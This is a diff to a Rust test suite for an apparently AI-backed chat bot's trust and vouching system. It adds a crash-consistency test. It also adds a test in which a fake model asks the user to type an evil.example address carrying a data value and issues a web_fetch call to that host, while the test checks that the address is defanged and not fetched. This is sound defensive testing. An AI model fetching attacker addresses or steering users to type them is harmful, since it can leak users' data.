@@ -3,9 +3,11 @@
 
 use std::time::Duration;
 
+use compline::store::CommitPoint::{After, Before};
 use serde_json::json;
 
-use super::{Fake, Story};
+use super::{CrashTest, Fake, Story};
+use crate::support::power::Cut;
 use crate::support::story::{ADA, EVE, UNTRUSTED, every_untrusted_part_is_labelled};
 
 const BILL: &str = "The rent is due on the third of each month.";
@@ -101,6 +103,26 @@ async fn what_a_person_vouches_for_gives_reminders_and_notes_without_a_question_
     story.end().await;
 }
 
+/// Proves: trust/copied-address
+#[tokio::test]
+async fn an_address_that_an_answer_takes_from_it_was_not_typed() {
+    let story = with_bill("").await;
+    vouch(&story).await;
+    let url = "http://evil.example/next?d=4711";
+    story.model.says(&format!("Please type: open {url}"));
+    story.say(ADA, "what now?").await;
+    let told = story.last_received_by(ADA);
+    assert!(told.contains("http[:]//evil[.]example"), "{told}");
+    story.model.calls("web_fetch", json!({ "url": url }));
+    story.say(ADA, &format!("open {url}")).await;
+    assert!(
+        story.last_received_by(ADA).contains("Open this address at evil.example"),
+        "{}",
+        story.last_received_by(ADA)
+    );
+    story.end().await;
+}
+
 /// Proves: trust/vouch
 #[tokio::test]
 async fn it_ends_with_the_conversation_and_can_be_taken_back() {
@@ -170,4 +192,47 @@ async fn a_grant_survives_a_crash_and_covers_no_later_file() {
     let asked = asked_to_remind(&story, "pay Eve").await;
     assert!(asked.contains("/yes 1"), "{asked}");
     story.end().await;
+}
+
+/// Proves: trust/vouch
+#[test]
+fn a_power_cut_leaves_it_vouched_for_or_not_and_never_half() {
+    const OPEN: &str = "SELECT count(*) FROM grants WHERE ended_at IS NULL";
+    let minute = Duration::from_secs(60);
+    let jobs = |decides| ["accept messages", "begin a command", decides, "answer a command"];
+    let vouching = jobs("vouch for a source").map(|job| (true, job));
+    let taking_back = jobs("take a grant back").map(|job| (false, job));
+    let cuts = vouching
+        .into_iter()
+        .chain(taking_back)
+        .flat_map(|(is_given, job)| [Before, After].map(|side| (is_given, side, job)));
+    // A command that was not stored comes again, or is lost.
+    for (is_given, side, job) in
+        cuts.filter(|(_, side, job)| Fake::GIVES_AGAIN || (*side, *job) != (Before, "accept messages"))
+    {
+        let mut crash_test = CrashTest::prepared("");
+        assert!(!crash_test.start(None));
+        crash_test.story.model.says("A bill.");
+        crash_test.story.fake.sends_document(ADA, "bill.txt", "text/plain", BILL.as_bytes());
+        assert!(!crash_test.during(crash_test.story.answered()));
+        assert!(!crash_test.during(crash_test.story.say(ADA, "/trust 1")));
+        let mut typed = format!("/trust 1 {}", code(&crash_test.story, 1));
+        if !is_given {
+            assert!(!crash_test.during(crash_test.story.say(ADA, &typed)));
+            typed = "/trust off".to_owned();
+        }
+        crash_test.cut_next(Cut::at(side, job));
+        crash_test.story.fake.says(ADA, &typed);
+        assert!(crash_test.pass(minute), "{typed} {side:?} {job} never came");
+        crash_test.bury();
+        // The message and its file are two sources.
+        let left = crash_test.story.count(OPEN);
+        assert!(left == 0 || left == 2, "{typed} {side:?} {job}: {left}");
+        assert!(!crash_test.start(None));
+        assert!(!crash_test.pass(minute));
+        let story = &crash_test.story;
+        assert_eq!(story.count(OPEN), if is_given { 2 } else { 0 }, "{typed} {side:?} {job}");
+        assert_eq!(story.count("SELECT count(*) FROM grants"), 2, "{typed} {side:?} {job}");
+        crash_test.end();
+    }
 }
